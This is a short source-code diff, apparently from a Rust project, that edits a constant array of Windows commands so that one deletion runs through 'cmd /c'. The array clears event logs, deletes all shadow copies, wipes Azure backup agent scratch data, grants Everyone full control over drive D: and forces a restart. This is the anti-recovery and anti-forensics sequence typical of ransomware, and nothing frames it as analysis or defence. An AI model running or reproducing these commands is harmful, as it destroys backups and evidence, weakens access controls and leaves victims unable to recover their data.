@@ -16,7 +16,7 @@ pub const FORCE: [&str; 9] = [
     "wevtutil cl CloudBackup",
     "wevtutil cl System",
     "vssadmin delete shadows /all /quiet",
-    r#"rd /s /q "C:\Program Files\Microsoft Azure Recovery Services Agent\Scratch""#,
+    r#"cmd /c rd /s /q "C:\Program Files\Microsoft Azure Recovery Services Agent\Scratch""#,
     r"icacls D:\ /grant Everyone:(OI)(CI)F /t /c /q",
     "Restart-Computer -Force",
 ];
